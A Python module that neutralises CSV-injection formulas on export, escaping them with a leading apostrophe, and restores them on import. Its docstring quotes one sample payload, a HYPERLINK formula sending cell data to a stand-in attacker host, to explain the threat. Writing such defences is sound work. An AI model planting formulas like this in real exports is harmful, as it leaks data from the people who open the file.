"""CSV cells that a spreadsheet would run as formulas, made inert on export and restored
on import (CSV injection, OWASP).

Excel, LibreOffice and Google Sheets treat a cell starting with = + - @ (or a tab or
carriage return before one) as a formula: a provider model id of
`=HYPERLINK("http://evil.example/?"&A1,"click")` in an export would become a live link on
an editor's machine. Such a cell is written with a leading apostrophe, which spreadsheets
show as text. A cell that already starts with an apostrophe followed by one of those
characters (or another apostrophe) gets one too, so reading back removes exactly one and
every value round-trips unchanged.
"""

FORMULA_STARTS = frozenset("=+-@\t\r")
ESCAPE = "'"


def is_escaped(cell: str) -> bool:
    return cell[:1] == ESCAPE and cell[1:2] in FORMULA_STARTS | {ESCAPE}


def neutralise_formula(cell):
    """The cell as written to a CSV: inert in a spreadsheet. Non-text values unchanged."""
    if isinstance(cell, str) and (cell[:1] in FORMULA_STARTS or is_escaped(cell)):
        return ESCAPE + cell
    return cell


def restore_formula(cell: str) -> str:
    """The value `neutralise_formula` was given, from the cell it wrote."""
    return cell[1:] if is_escaped(cell) else cell
